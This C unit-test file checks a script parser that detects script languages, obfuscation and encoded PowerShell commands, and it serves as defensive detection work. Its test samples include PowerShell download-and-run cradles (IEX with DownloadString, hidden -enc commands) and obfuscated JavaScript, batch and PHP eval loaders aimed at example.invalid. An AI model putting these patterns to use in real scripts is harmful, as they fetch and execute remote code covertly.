/*
 * test_script.c - unit tests for parsers/script.c (the "script" parser:
 * script_info, language tags, "obfuscated", decoded PowerShell commands).
 *
 * Every script is written here (harmless samples; the download-and-run
 * lines only point at example.invalid / example.com and are never run):
 * one per language with and without identification's tag, shebang
 * variants, exact shape statistics, PowerShell -EncodedCommand built at
 * run time (UTF-16LE, base64) in each accepted spelling and in look-alike
 * negatives, obfuscated JavaScript / PowerShell / batch made from pieces,
 * UTF-16 and UTF-8 BOMs, invalid UTF-8, the bid rules, the size limit,
 * seeded random mutations, and a sample of real scripts from
 * /usr/lib/python3.11 and /usr/bin (language found, never "obfuscated").
 * Every result is checked to serialise to strict, valid UTF-8 JSON.
 *
 * SPDX-License-Identifier: MIT
 */
#include "pn.h"
#include "tap.h"
#include "parser.h"
#include "b64.h"

#include <dirent.h>
#include <fcntl.h>
#include <json-c/json.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

extern const struct pn_parser pn_parser_script;

#define REAL_MAX   120        /* real files per directory */
#define REAL_READ  (1u << 20) /* bytes read from each */

/* ------------------------------------------------------------------ */
/* helpers                                                             */

static uint64_t rng_state = 0x853c49e6748fea9bULL;

static uint64_t
rng(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545f4914f6cdd1dULL;
}

struct run {
	struct json_object *attrs, *tags, *notes, *edges, *info;
	int rc;
	int json_ok;
};

/* Strict, valid-UTF-8 JSON round trip of the attributes. */
static int
json_valid(struct json_object *o)
{
	const char *s = json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN);
	struct json_tokener *tok = json_tokener_new();
	struct json_object *back;
	int good;

	json_tokener_set_flags(tok, JSON_TOKENER_STRICT | JSON_TOKENER_VALIDATE_UTF8);
	back = json_tokener_parse_ex(tok, s, (int)strlen(s));
	good = back != NULL && json_tokener_get_error(tok) == json_tokener_success;
	json_object_put(back);
	json_tokener_free(tok);
	return good;
}

static void
parse_id(const void *d, size_t n, const char *tag, struct run *r)
{
	static const struct pn_details_opts opts;
	struct pn_ident id;
	struct pn_parse p;

	memset(&id, 0, sizeof(id));
	id.tag = tag;
	memset(&p, 0, sizeof(p));
	p.opts = &opts;
	p.data = d;
	p.size = n;
	p.ident = &id;
	p.attrs = r->attrs = json_object_new_object();
	p.tags = r->tags = json_object_new_array();
	p.notes = r->notes = json_object_new_array();
	p.edges = r->edges = json_object_new_array();
	r->rc = pn_parser_script.parse(&p);
	r->info = NULL;
	json_object_object_get_ex(r->attrs, "script_info", &r->info);
	r->json_ok = json_valid(r->attrs);
}

static void
parse(const char *text, const char *tag, struct run *r)
{
	parse_id(text, strlen(text), tag, r);
}

static void
run_free(struct run *r)
{
	json_object_put(r->attrs);
	json_object_put(r->tags);
	json_object_put(r->notes);
	json_object_put(r->edges);
}

static const char *
info_str(const struct run *r, const char *key)
{
	struct json_object *v;

	return r->info && json_object_object_get_ex(r->info, key, &v) ? json_object_get_string(v) : NULL;
}

static double
info_num(const struct run *r, const char *key)
{
	struct json_object *v;

	return r->info && json_object_object_get_ex(r->info, key, &v) ? json_object_get_double(v) : -1;
}

static int
in_array(struct json_object *a, const char *s)
{
	size_t i;

	for (i = 0; a && i < json_object_array_length(a); i++)
		if (strcmp(json_object_get_string(json_object_array_get_idx(a, i)), s) == 0)
			return 1;
	return 0;
}

static struct json_object *
info_arr(const struct run *r, const char *key)
{
	struct json_object *v;

	return r->info && json_object_object_get_ex(r->info, key, &v) ? v : NULL;
}

static int
has_edge(const struct run *r, const char *rel, const char *id)
{
	size_t i;

	for (i = 0; i < json_object_array_length(r->edges); i++) {
		struct json_object *e = json_object_array_get_idx(r->edges, i), *a, *b;
		if (json_object_object_get_ex(e, "rel", &a) && json_object_object_get_ex(e, "id", &b) &&
		    strcmp(json_object_get_string(a), rel) == 0 && strcmp(json_object_get_string(b), id) == 0)
			return 1;
	}
	return 0;
}

/* base64 of the UTF-16LE form of the UTF-8 text s (BMP and pairs), caller frees. */
static char *
encode_command(const char *s)
{
	size_t n = strlen(s), i = 0, o = 0, blen;
	uint8_t *u = pn_xmalloc(2 * n + 2);
	char *b;

	while (i < n) {
		const unsigned char *c = (const unsigned char *)s + i;
		uint32_t cp;
		if (c[0] < 0x80) {
			cp = c[0];
			i += 1;
		} else if ((c[0] & 0xe0) == 0xc0) {
			cp = (uint32_t)(c[0] & 0x1f) << 6 | (c[1] & 0x3f);
			i += 2;
		} else if ((c[0] & 0xf0) == 0xe0) {
			cp = (uint32_t)(c[0] & 0x0f) << 12 | (uint32_t)(c[1] & 0x3f) << 6 | (c[2] & 0x3f);
			i += 3;
		} else {
			cp = (uint32_t)(c[0] & 0x07) << 18 | (uint32_t)(c[1] & 0x3f) << 12 |
			    (uint32_t)(c[2] & 0x3f) << 6 | (c[3] & 0x3f);
			i += 4;
		}
		if (cp >= 0x10000) {
			uint32_t v = cp - 0x10000, hi = 0xd800 + (v >> 10), lo = 0xdc00 + (v & 0x3ff);
			u[o++] = (uint8_t)hi;
			u[o++] = (uint8_t)(hi >> 8);
			cp = lo;
		}
		u[o++] = (uint8_t)cp;
		u[o++] = (uint8_t)(cp >> 8);
	}
	blen = pn_b64_encoded_len(o) + 1;
	b = pn_xmalloc(blen);
	pn_b64_encode(u, o, b, blen, PN_B64_STD);
	free(u);
	return b;
}

/* ------------------------------------------------------------------ */
/* samples                                                             */

struct sample {
	const char *lang;       /* expected language */
	const char *tag;        /* identification's tag for this type */
	const char *vt_tag;     /* tag the parser adds, or NULL */
	const char *text;
};

static const struct sample samples[] = {
	{ "shell", "shell", NULL,
	  "set -e\nexport PATH=/usr/bin:/bin\nif [ -z \"$1\" ]; then\n  echo \"usage: $0 dir\" >&2\n  exit 1\nfi\n"
	  "case \"$1\" in\n  -h) echo help ;;\nesac\nfor f in \"$1\"/*; do\n  echo \"$f\" >/dev/null 2>&1\ndone\n"
	  "while read line; do echo \"${line}\"; done < /etc/hostname\n" },
	{ "python", "python", NULL,
	  "import os\nfrom sys import argv\n\n\nclass A:\n    \"\"\"A class.\"\"\"\n    def __init__(self):\n"
	  "        self.x = None\n\n\ndef main():\n    try:\n        print(os.getcwd(), argv)\n"
	  "    except OSError:\n        raise\n    else:\n        pass\n\n\nif __name__ == \"__main__\":\n    main()\n" },
	{ "powershell", "powershell", "powershell",
	  "param([string]$Path = '.')\n$ErrorActionPreference = 'Stop'\nWrite-Host \"Listing $Path\"\n"
	  "Get-ChildItem -Path $Path | ForEach-Object { Write-Output $_.Name }\n"
	  "if (Test-Path $env:TEMP) { Remove-Item -Path \"$env:TEMP\\x.txt\" -ErrorAction SilentlyContinue }\n"
	  "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')\n" },
	{ "javascript", "javascript", "javascript",
	  "var shell = new ActiveXObject(\"WScript.Shell\");\nfunction greet(name) {\n"
	  "  if (typeof name === 'undefined') { name = \"world\"; }\n  console.log(\"hello \" + name);\n}\n"
	  "const twice = (x) => x * 2;\nmodule.exports = { greet: greet, twice: twice };\n" },
	{ "vbscript", "vba", "vba",
	  "Option Explicit\nDim fso, shell\nSet shell = CreateObject(\"WScript.Shell\")\nOn Error Resume Next\n"
	  "If IsObject(shell) Then\n  MsgBox \"hello\" & vbCrLf & \"world\"\nEnd If\n"
	  "Sub Greet(ByVal name)\n  WScript.Echo name\nEnd Sub\n" },
	{ "batch", "batch", NULL,
	  "@echo off\r\nsetlocal\r\nrem harmless sample\r\nif exist \"%~dp0config.ini\" goto :run\r\n"
	  "echo missing\r\ngoto :eof\r\n:run\r\nset /a n=1+1\r\ncall :sub\r\nexit /b 0\r\n" },
	{ "php", "php", NULL,
	  "<?php\n$name = isset($_GET['name']) ? $_GET['name'] : 'world';\necho \"hello \" . htmlspecialchars($name);\n"
	  "class A { private $x = array(1, 2); function f() { return $this->x; } }\n?>\n" },
	{ "html", "html", NULL,
	  "<!DOCTYPE html>\n<html><head><title>t</title><meta charset=\"utf-8\"></head>\n"
	  "<body><div><p>hello</p><a href=\"https://example.com/\">x</a></div>\n"
	  "<script>document.getElementById('x');</script></body></html>\n" },
	{ "perl", "perl", NULL,
	  "use strict;\nuse warnings;\n\nmy $n = shift @ARGV;\nmy @list = qw(a b c);\n"
	  "foreach my $x (@list) { print STDERR \"$x\\n\" if $x =~ /a/; }\n"
	  "sub f { my ($a) = @_; chomp $a; return $a; }\n" },
};

static void
test_languages(void)
{
	struct run r;
	size_t i;

	for (i = 0; i < PN_ARRAY_LEN(samples); i++) {
		const struct sample *s = &samples[i];

		parse(s->text, NULL, &r);
		is_str(info_str(&r, "language"), s->lang, "%s sample without a type", s->lang);
		ok(info_num(&r, "confidence") >= 0.5, "%s sample confidence %.2f", s->lang, info_num(&r, "confidence"));
		ok(!in_array(r.tags, "obfuscated"), "%s sample not obfuscated (%s)", s->lang,
		    json_object_to_json_string(info_arr(&r, "obfuscation")));
		if (s->vt_tag)
			ok(in_array(r.tags, s->vt_tag), "%s sample tagged %s", s->lang, s->vt_tag);
		else
			is_int(json_object_array_length(r.tags), 0, "%s sample: no tag", s->lang);
		ok(r.json_ok && r.rc == PN_OK, "%s sample: valid JSON, PN_OK", s->lang);
		run_free(&r);

		parse(s->text, s->tag, &r);
		is_str(info_str(&r, "language"), s->lang, "%s sample with tag %s", s->lang, s->tag);
		run_free(&r);
	}
	/* text that is no script */
	parse("Dear reader,\nthis is a letter about nothing in particular.\nRegards\n", "text", &r);
	is_str(info_str(&r, "language"), "unknown", "plain text: unknown");
	ok(info_num(&r, "confidence") == 0, "plain text: confidence 0");
	run_free(&r);
	/* the PowerShell sample: suspicious keywords, no edges from plain text */
	parse(samples[2].text, NULL, &r);
	ok(in_array(info_arr(&r, "suspicious"), "downloadstring") && in_array(info_arr(&r, "suspicious"), "iex") &&
	    in_array(info_arr(&r, "suspicious"), "net.webclient"), "powershell: suspicious keywords");
	is_int(json_object_array_length(r.edges), 0, "powershell: URLs of plain text left to the strings parser");
	run_free(&r);
}

static void
test_shebang(void)
{
	static const struct { const char *text, *lang, *shebang; } c[] = {
		{ "#!/usr/bin/env python3\nx = 1\n", "python", "#!/usr/bin/env python3" },
		{ "#!/usr/bin/python3.11 -u\nx = 1\n", "python", "#!/usr/bin/python3.11 -u" },
		{ "#!/usr/bin/env -S node --no-warnings\nx = 1\n", "javascript", "#!/usr/bin/env -S node --no-warnings" },
		{ "#!/bin/bash\nx=1\n", "shell", "#!/bin/bash" },
		{ "#! /bin/sh\r\nx=1\r\n", "shell", "#! /bin/sh" },
		{ "#!/usr/bin/perl -w\n$x = 1;\n", "perl", "#!/usr/bin/perl -w" },
		{ "#!/usr/bin/env pwsh\n$x = 1\n", "powershell", "#!/usr/bin/env pwsh" },
		{ "#!/usr/bin/php\n$x = 1;\n", "php", "#!/usr/bin/php" },
		{ "#!/usr/bin/ruby\nputs 1\n", "unknown", "#!/usr/bin/ruby" },
		{ "#!/usr/bin/env\n", "unknown", "#!/usr/bin/env" },
		{ "#!", "unknown", "#!" },
		{ "\xef\xbb\xbf#!/bin/sh\necho\n", "shell", "#!/bin/sh" },
		{ "#!/bin/\xff\xfe\n", "unknown", "#!/bin/\xef\xbf\xbd\xef\xbf\xbd" },
	};
	struct run r;
	size_t i;

	for (i = 0; i < PN_ARRAY_LEN(c); i++) {
		parse(c[i].text, NULL, &r);
		is_str(info_str(&r, "language"), c[i].lang, "shebang %zu: language", i);
		is_str(info_str(&r, "shebang"), c[i].shebang, "shebang %zu: line", i);
		ok(r.json_ok, "shebang %zu: valid JSON", i);
		if (strcmp(c[i].lang, "unknown") != 0)
			ok(info_num(&r, "confidence") >= 0.9, "shebang %zu: confidence", i);
		run_free(&r);
	}
	parse("x=1\n#!/bin/sh\n", NULL, &r);
	ok(info_str(&r, "shebang") == NULL, "#! not on the first line");
	run_free(&r);
}

static void
test_shape(void)
{
	struct run r;
	uint8_t bin[300];
	char *text, b64[512];
	size_t i;

	parse("ab\ncde\n\nxyz", NULL, &r);
	is_int(info_num(&r, "size"), 11, "shape: size");
	is_int(info_num(&r, "lines"), 4, "shape: lines");
	is_int(info_num(&r, "longest_line"), 3, "shape: longest line");
	ok(info_num(&r, "non_alnum_ratio") == 0, "shape: no symbols");
	is_int(info_num(&r, "base64_runs"), 0, "shape: no base64");
	run_free(&r);
	parse("a+b\n", NULL, &r);
	ok(info_num(&r, "non_alnum_ratio") > 0.332 && info_num(&r, "non_alnum_ratio") < 0.334, "shape: 1 of 3 symbols");
	is_int(info_num(&r, "lines"), 1, "shape: one line with its newline");
	run_free(&r);
	/* a base64 blob of random bytes and a 5000-character line */
	for (i = 0; i < sizeof(bin); i++)
		bin[i] = (uint8_t)rng();
	pn_b64_encode(bin, sizeof(bin), b64, sizeof(b64), PN_B64_STD);
	text = pn_xasprintf("x = \"%s\"\ny = 1\n", b64);
	parse(text, NULL, &r);
	is_int(info_num(&r, "base64_runs"), 1, "shape: one base64 run");
	ok(in_array(info_arr(&r, "obfuscation"), "base64_blobs"), "shape: base64_blobs cue");
	run_free(&r);
	free(text);
	text = pn_xmalloc(5002);
	memset(text, 'a', 5000);
	text[5000] = '\n';
	text[5001] = '\0';
	parse(text, NULL, &r);
	is_int(info_num(&r, "longest_line"), 5000, "shape: long line");
	ok(in_array(info_arr(&r, "obfuscation"), "long_lines"), "shape: long_lines cue");
	ok(!in_array(r.tags, "obfuscated"), "shape: one weak cue is not obfuscation");
	run_free(&r);
	free(text);
}

/* ------------------------------------------------------------------ */
/* encoded commands                                                    */

static void
test_encoded(void)
{
	static const char *const cmd =
	    "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1'); "
	    "Invoke-WebRequest -Uri https://download.example.com/x.bin -OutFile $env:TEMP\\x.bin";
	static const char *const spellings[] = {
		"-EncodedCommand %s", "-enc %s", "-e %s", "-ec %s", "/e %s", "-ENCODEDCOMMAND %s",
		"-encodedc \"%s\"", "-En '%s'", "-e\t%s",
	};
	static const char *const not_commands[] = {
		"grep -e pattern file.txt\n", "set -e\nrm -f x\n", "perl -e 'print 1' -e 'print 2'\n",
		"x-e %s\n", "-encodedcommandx %s\n", "-ex %s\n", "-e%s\n",
	};
	char *b64 = encode_command(cmd), *text, *ascii;
	struct json_object *dec;
	struct run r;
	size_t i;

	for (i = 0; i < PN_ARRAY_LEN(spellings); i++) {
		char *arg = pn_xasprintf(spellings[i], b64);
		text = pn_xasprintf("@echo off\r\npowershell.exe -NoP -W Hidden %s\r\n", arg);
		parse(text, NULL, &r);
		dec = info_arr(&r, "decoded_commands");
		ok(dec && json_object_array_length(dec) == 1, "encoded \"%.18s\": one command", spellings[i]);
		is_str(dec ? json_object_get_string(json_object_array_get_idx(dec, 0)) : NULL, cmd,
		    "encoded \"%.18s\": decoded", spellings[i]);
		ok(in_array(info_arr(&r, "obfuscation"), "encoded_command"), "encoded \"%.18s\": cue", spellings[i]);
		free(text);
		free(arg);
		if (i == 0) {
			ok(has_edge(&r, "embedded_urls", "http://example.invalid/a.ps1"), "encoded: URL edge");
			ok(has_edge(&r, "embedded_urls", "https://download.example.com/x.bin"), "encoded: second URL edge");
			ok(has_edge(&r, "embedded_domains", "download.example.com"), "encoded: domain edge");
			ok(!has_edge(&r, "embedded_domains", "example.invalid"), "encoded: no edge to a reserved name");
			ok(in_array(r.tags, "obfuscated"), "encoded: obfuscated (%s)",
			    json_object_to_json_string(info_arr(&r, "obfuscation")));
		}
		run_free(&r);
	}
	for (i = 0; i < PN_ARRAY_LEN(not_commands); i++) {
		text = pn_xasprintf(not_commands[i], b64);
		parse(text, NULL, &r);
		is_int(json_object_array_length(info_arr(&r, "decoded_commands")), 0, "not encoded: case %zu", i);
		run_free(&r);
		free(text);
	}
	/* base64 of ASCII, not UTF-16LE: not a PowerShell command */
	ascii = pn_xmalloc(256);
	pn_b64_encode("Write-Host hello from ascii", 27, ascii, 256, PN_B64_STD);
	text = pn_xasprintf("powershell -enc %s\n", ascii);
	parse(text, NULL, &r);
	is_int(json_object_array_length(info_arr(&r, "decoded_commands")), 0, "not UTF-16LE: not decoded");
	run_free(&r);
	free(text);
	free(ascii);
	free(b64);

	/* non-ASCII, a surrogate pair, missing padding */
	b64 = encode_command("Write-Host 'caf\xc3\xa9 \xf0\x9f\x98\x80 \xe2\x82\xac'");
	b64[strcspn(b64, "=")] = '\0';
	text = pn_xasprintf("pwsh -e %s", b64);
	parse(text, NULL, &r);
	dec = info_arr(&r, "decoded_commands");
	is_str(dec ? json_object_get_string(json_object_array_get_idx(dec, 0)) : NULL,
	    "Write-Host 'caf\xc3\xa9 \xf0\x9f\x98\x80 \xe2\x82\xac'", "encoded: UTF-16 to UTF-8");
	ok(r.json_ok, "encoded: valid JSON");
	run_free(&r);
	free(text);
	free(b64);
}

static void
test_encoded_limits(void)
{
	struct json_object *dec;
	struct run r;
	char *big, *b64, *text, *more = pn_xstrdup(""), *t;
	size_t i;

	/* PN_SCRIPT_MAX_DECODED (8) of 10 kept */
	for (i = 0; i < 10; i++) {
		char c[64];
		snprintf(c, sizeof(c), "Write-Output %zu", i);
		b64 = encode_command(c);
		t = pn_xasprintf("%spowershell -enc %s\n", more, b64);
		free(more);
		more = t;
		free(b64);
	}
	parse(more, NULL, &r);
	dec = info_arr(&r, "decoded_commands");
	is_int(json_object_array_length(dec), 8, "limits: 8 decoded commands kept");
	is_str(json_object_get_string(json_object_array_get_idx(dec, 7)), "Write-Output 7", "limits: in order");
	run_free(&r);
	free(more);
	/* a 15000-byte command: cut to 4096 bytes at a character boundary */
	big = pn_xmalloc(15001);
	for (i = 0; i < 15000; i += 3)
		memcpy(big + i, "a\xc3\xa9", 3);
	big[15000] = '\0';
	b64 = encode_command(big);
	text = pn_xasprintf("powershell -EncodedCommand %s", b64);
	parse(text, NULL, &r);
	dec = info_arr(&r, "decoded_commands");
	i = dec && json_object_array_length(dec) ? strlen(json_object_get_string(json_object_array_get_idx(dec, 0))) : 0;
	ok(i >= 4094 && i <= 4096, "limits: long command cut to %zu bytes", i);
	ok(r.json_ok, "limits: valid JSON");
	run_free(&r);
	free(text);
	free(b64);
	free(big);
}

/* ------------------------------------------------------------------ */
/* obfuscation                                                         */

static void
test_obfuscation(void)
{
	static const char url[] = "http://example.invalid/payload.js";
	char *js = pn_xstrdup("var s = String.fromCharCode("), *t;
	struct run r;
	size_t i;

	/* JavaScript: a char-code array and a concatenation chain */
	for (i = 0; i < 3 * sizeof(url) - 3; i++) {
		t = pn_xasprintf("%s%d%s", js, url[i % (sizeof(url) - 1)], i + 1 < 3 * sizeof(url) - 3 ? "," : ");\n");
		free(js);
		js = t;
	}
	t = pn_xasprintf("%svar u = 'ht'+'tp'+':'+'//'+'ex'+'am'+'pl'+'e.'+'in'+'va'+'li'+'d/'+'a'+'b'+'c'+'d'+"
	    "'e'+'f'+'g'+'h'+'i'+'j'+'k'+'l'+'m'+'n'+'o'+'p'+'q'+'r'+'s'+'t'+'u'+'v'+'w'+'x'+'y';\neval(s + u);\n", js);
	free(js);
	parse(t, NULL, &r);
	is_str(info_str(&r, "language"), "javascript", "obfuscated js: language");
	ok(in_array(info_arr(&r, "obfuscation"), "char_codes"), "obfuscated js: char_codes");
	ok(in_array(info_arr(&r, "obfuscation"), "string_concat"), "obfuscated js: string_concat");
	ok(in_array(r.tags, "obfuscated"), "obfuscated js: tagged");
	run_free(&r);
	free(t);
	/* PowerShell backticks */
	parse("$a = 'x'\nI`E`X (N`e`w-O`b`j`e`c`t Net.WebClient).DownloadString('http://example.invalid/')\n"
	    "Wr`i`t`e-Ho`s`t $a\n", NULL, &r);
	ok(in_array(info_arr(&r, "obfuscation"), "escape_chars"), "powershell backticks: escape_chars");
	run_free(&r);
	/* batch carets and substrings */
	parse("@echo off\r\nset x=%COMSPEC:~4,1%%COMSPEC:~5,1%%COMSPEC:~6,1%%COMSPEC:~7,1%\r\n"
	    "p^o^w^e^r^s^h^e^l^l -c \"echo 1\"\r\n", NULL, &r);
	ok(in_array(info_arr(&r, "obfuscation"), "escape_chars"), "batch carets: escape_chars");
	run_free(&r);
	/* PHP eval(base64_decode()) */
	parse("<?php eval(base64_decode('ZWNobyAxOw==')); ?>", NULL, &r);
	ok(in_array(info_arr(&r, "obfuscation"), "eval_decode"), "php: eval_decode");
	is_str(info_str(&r, "language"), "php", "php: language");
	run_free(&r);
	/* benign concatenation and escapes stay below the line */
	parse("s = 'a' + x + 'b'\nt = \"line1`nline2\"\nu = '.'.join(['a', 'b'])\nv = 'x' + 'y'\n", NULL, &r);
	ok(!in_array(info_arr(&r, "obfuscation"), "string_concat") &&
	    !in_array(info_arr(&r, "obfuscation"), "escape_chars"), "benign: no concat or escape cue");
	run_free(&r);
}

/* ------------------------------------------------------------------ */
/* encodings, bids, limits                                             */

static void
test_encodings(void)
{
	const char *ps = samples[2].text;
	size_t n = strlen(ps), i;
	uint8_t *le = pn_xmalloc(2 * n + 2), *be = pn_xmalloc(2 * n + 2);
	struct run r;

	le[0] = 0xff;
	le[1] = 0xfe;
	be[0] = 0xfe;
	be[1] = 0xff;
	for (i = 0; i < n; i++) {
		le[2 + 2 * i] = (uint8_t)ps[i];
		le[3 + 2 * i] = 0;
		be[2 + 2 * i] = 0;
		be[3 + 2 * i] = (uint8_t)ps[i];
	}
	parse_id(le, 2 * n + 2, NULL, &r);
	is_str(info_str(&r, "language"), "powershell", "UTF-16LE with BOM: language");
	is_str(info_str(&r, "encoding"), "utf-16le", "UTF-16LE with BOM: encoding");
	is_int(info_num(&r, "size"), 2 * n + 2, "UTF-16LE: size is the file's");
	run_free(&r);
	parse_id(le + 2, 2 * n, NULL, &r);
	is_str(info_str(&r, "language"), "powershell", "UTF-16LE without BOM: language");
	is_str(info_str(&r, "encoding"), "utf-16le", "UTF-16LE without BOM: encoding");
	run_free(&r);
	parse_id(be, 2 * n + 2, NULL, &r);
	is_str(info_str(&r, "language"), "powershell", "UTF-16BE with BOM: language");
	is_str(info_str(&r, "encoding"), "utf-16be", "UTF-16BE: encoding");
	run_free(&r);
	/* an odd byte count and a lone surrogate */
	le[2] = 0x00;
	le[3] = 0xd8;
	parse_id(le, 2 * n + 1, NULL, &r);
	ok(r.json_ok, "UTF-16 lone surrogate, odd length: valid JSON");
	run_free(&r);
	free(le);
	free(be);
	/* invalid UTF-8 in the text */
	parse("#!/bin/sh\necho \xff\xfe\xc3\n", NULL, &r);
	ok(r.json_ok, "invalid UTF-8: valid JSON");
	run_free(&r);
}

static void
test_bid(void)
{
	static const char text[] = "echo hello\n";
	struct pn_ident id;

	memset(&id, 0, sizeof(id));
	ok(pn_parser_script.bid((const uint8_t *)text, 0, &id) == 0, "bid: empty");
	id.tag = "peexe";
	ok(pn_parser_script.bid((const uint8_t *)text, 11, &id) == 0, "bid: PE");
	id.tag = "rtf";
	ok(pn_parser_script.bid((const uint8_t *)text, 11, &id) == 0, "bid: RTF");
	id.tag = "text";
	ok(pn_parser_script.bid((const uint8_t *)text, 11, &id) > 0, "bid: text");
	id.tag = "powershell";
	ok(pn_parser_script.bid((const uint8_t *)text, 11, &id) > 0, "bid: powershell");
	id.tag = NULL;
	pn_strlcpy(id.mime, "text/plain", sizeof(id.mime));
	ok(pn_parser_script.bid((const uint8_t *)"\x01\x02\x03", 3, &id) > 0, "bid: text/ MIME type");
	id.mime[0] = '\0';
	ok(pn_parser_script.bid((const uint8_t *)text, 11, &id) > 0, "bid: unidentified text");
	ok(pn_parser_script.bid((const uint8_t *)text, 11, NULL) > 0, "bid: no identification");
	ok(pn_parser_script.bid((const uint8_t *)"MZ\x90\x00\x03\x00\x00\x00", 8, &id) == 0, "bid: binary");
	ok(pn_parser_script.bid((const uint8_t *)"\x01\x02\x03\x04x", 5, &id) == 0, "bid: control characters");
}

static void
test_limit(void)
{
	size_t n = (8u << 20) + 100, i;
	char *big = pn_xmalloc(n);
	struct run r;
	struct json_object *v;

	for (i = 0; i < n; i++)
		big[i] = i % 64 == 63 ? '\n' : 'a';
	parse_id(big, n, "text", &r);
	is_int(r.rc, PN_ELIMIT, "limit: PN_ELIMIT");
	ok(json_object_object_get_ex(r.info, "truncated", &v) && json_object_get_boolean(v), "limit: truncated");
	is_int(info_num(&r, "size"), n, "limit: size is the file's");
	is_int(info_num(&r, "lines"), (8u << 20) / 64, "limit: lines of the analysed part");
	is_int(json_object_array_length(r.notes), 1, "limit: noted");
	run_free(&r);
	free(big);
}

/* Seeded mutations of every sample: never a crash, always valid JSON. */
static void
test_mutations(void)
{
	char buf[2048];
	struct run r;
	size_t k, i, n;
	int bad = 0;

	for (k = 0; k < 3000; k++) {
		const char *s = samples[k % PN_ARRAY_LEN(samples)].text;
		n = PN_MIN(strlen(s), sizeof(buf));
		memcpy(buf, s, n);
		for (i = 0; i < 1 + rng() % 8; i++)
			buf[rng() % n] = rng() % 4 ? (char)rng() : "-e `^'\"+:~\\x"[rng() % 13];
		if (rng() % 4 == 0)
			n = rng() % n;
		parse_id(buf, n, NULL, &r);
		bad += !r.json_ok || r.info == NULL || (r.rc != PN_OK && r.rc != PN_ELIMIT);
		run_free(&r);
	}
	is_int(bad, 0, "3000 mutated samples: valid script_info each time");
}

/* ------------------------------------------------------------------ */
/* real files                                                          */

static int
cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/*
 * Scripts of dir whose first bytes are prefix (or names ending in suffix):
 * language must be lang for at least pct % of them, none obfuscated.
 */
static void
real_dir(const char *dir, const char *suffix, const char *prefix, const char *lang, int pct)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	char **names = NULL, path[4096];
	size_t n = 0, cap = 0, i, files = 0, right = 0, obf = 0, bad = 0;
	int64_t worst = 0;

	if (d == NULL) {
		ok(1, "# SKIP %s missing", dir);
		return;
	}
	while ((e = readdir(d)) != NULL) {
		size_t l = strlen(e->d_name);
		if (e->d_name[0] == '.' || (suffix && (l < strlen(suffix) || strcmp(e->d_name + l - strlen(suffix), suffix) != 0)))
			continue;
		if (n == cap)
			names = pn_xrealloc(names, (cap = cap ? 2 * cap : 256) * sizeof(*names));
		names[n++] = pn_xstrdup(e->d_name);
	}
	closedir(d);
	qsort(names, n, sizeof(*names), cmp_str);
	for (i = 0; i < n && files < REAL_MAX; i++) {
		uint8_t *data = pn_xmalloc(REAL_READ);
		struct run r;
		ssize_t len;
		int fd;
		int64_t t0;

		snprintf(path, sizeof(path), "%s/%s", dir, names[i]);
		fd = open(path, O_RDONLY);
		len = fd >= 0 ? read(fd, data, REAL_READ) : -1;
		if (fd >= 0)
			close(fd);
		if (len <= 0 || (prefix && ((size_t)len < strlen(prefix) || memcmp(data, prefix, strlen(prefix)) != 0))) {
			free(data);
			continue;
		}
		files++;
		t0 = pn_mono_ms();
		parse_id(data, (size_t)len, NULL, &r);
		worst = PN_MAX(worst, pn_mono_ms() - t0);
		right += info_str(&r, "language") && strcmp(info_str(&r, "language"), lang) == 0;
		if (in_array(r.tags, "obfuscated")) {
			obf++;
			diag("%s: obfuscated %s", path, json_object_to_json_string(info_arr(&r, "obfuscation")));
		}
		bad += !r.json_ok;
		run_free(&r);
		free(data);
	}
	ok(files == 0 || right * 100 >= files * (size_t)pct, "%s: %zu of %zu found to be %s", dir, right, files, lang);
	is_int(obf, 0, "%s: none obfuscated", dir);
	is_int(bad, 0, "%s: valid JSON", dir);
	ok(worst < 2000, "%s: slowest %lld ms", dir, (long long)worst);
	for (i = 0; i < n; i++)
		free(names[i]);
	free(names);
}

int
main(void)
{
	test_languages();
	test_shebang();
	test_shape();
	test_encoded();
	test_encoded_limits();
	test_obfuscation();
	test_encodings();
	test_bid();
	test_limit();
	test_mutations();
	real_dir("/usr/lib/python3.11", ".py", NULL, "python", 95);
	real_dir("/usr/lib/python3/dist-packages/pygments/lexers", ".py", NULL, "python", 90);
	real_dir("/usr/bin", NULL, "#!/bin/sh", "shell", 95);
	real_dir("/usr/bin", NULL, "#!/usr/bin/perl", "perl", 100);
	return done_testing();
}
